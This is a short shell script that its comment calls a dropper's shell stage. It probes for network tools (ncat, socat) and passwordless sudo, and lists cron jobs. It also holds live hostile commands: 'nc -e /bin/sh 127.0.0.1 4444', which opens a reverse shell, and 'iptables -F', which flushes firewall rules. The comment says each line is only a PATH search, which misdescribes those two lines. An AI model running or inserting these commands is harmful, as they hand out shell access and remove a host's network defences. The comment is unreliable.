#!/bin/sh
# A dropper's shell stage on a host without its tools: each line is a PATH search.
id -u
[ -x /usr/bin/ncat ] && echo has-ncat
sudo -n id
nc -e /bin/sh 127.0.0.1 4444
crontab -l
iptables -F
command -v socat || echo no-socat
